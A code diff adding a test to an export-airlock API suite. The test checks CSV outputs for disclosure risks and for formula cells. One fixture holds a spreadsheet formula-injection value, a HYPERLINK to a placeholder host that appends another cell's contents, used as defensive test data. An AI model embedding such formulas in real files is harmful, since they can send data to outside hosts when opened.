@@ -162,6 +162,33 @@ describe("export requests through the API, with a real airlock agent", () => {
     await call(alice, "exports.withdraw", { id });
   });
 
+  it("checks histograms, survival tables and tables declared as something else, and flags formula cells", async () => {
+    put("figures/age.csv", "lower,upper,count\n18,30,14\n30,50,52\n50,,11\n");
+    put("figures/km.csv", "time,n_risk,n_event\n0,412,0\n12,380,3\n");
+    put("misc/links.csv", 'region,count\n"=HYPERLINK(""https://x.example/?""&B3)",120\nB,4\n');
+    const precheck = async (path: string, type: string) =>
+      (await call(alice, "exports.precheck", { namespace, path, type })).data as {
+        status: string;
+        report: { checks: Array<{ name: string; status: string }>; cells: Array<{ row: number; column: string }> };
+      };
+    const histogram = await precheck("figures/age.csv", "histogram");
+    expect(histogram.status).toBe("review");
+    expect(histogram.report.cells).toMatchObject([{ row: 1, column: "lower" }]);
+    const survival = await precheck("figures/km.csv", "survival");
+    expect(survival.status).toBe("fail");
+    expect(survival.report.cells).toMatchObject([{ row: 2, column: "n_event" }]);
+    const other = await precheck("misc/links.csv", "other");
+    expect(other.status).toBe("fail");
+    expect(other.report.checks.map((c) => `${c.name}:${c.status}`)).toEqual([
+      "declared-type:review",
+      "threshold:fail",
+      "zeros:pass",
+      "formula-cells:review",
+    ]);
+    // The researcher sees where, not what: the formula's text stays in the file.
+    expect(JSON.stringify(other)).not.toMatch(/HYPERLINK|x\.example/);
+  });
+
   it("refuses files that may not leave, before anything is copied", async () => {
     const notebook = await call(alice, "exports.create", {
       namespace,
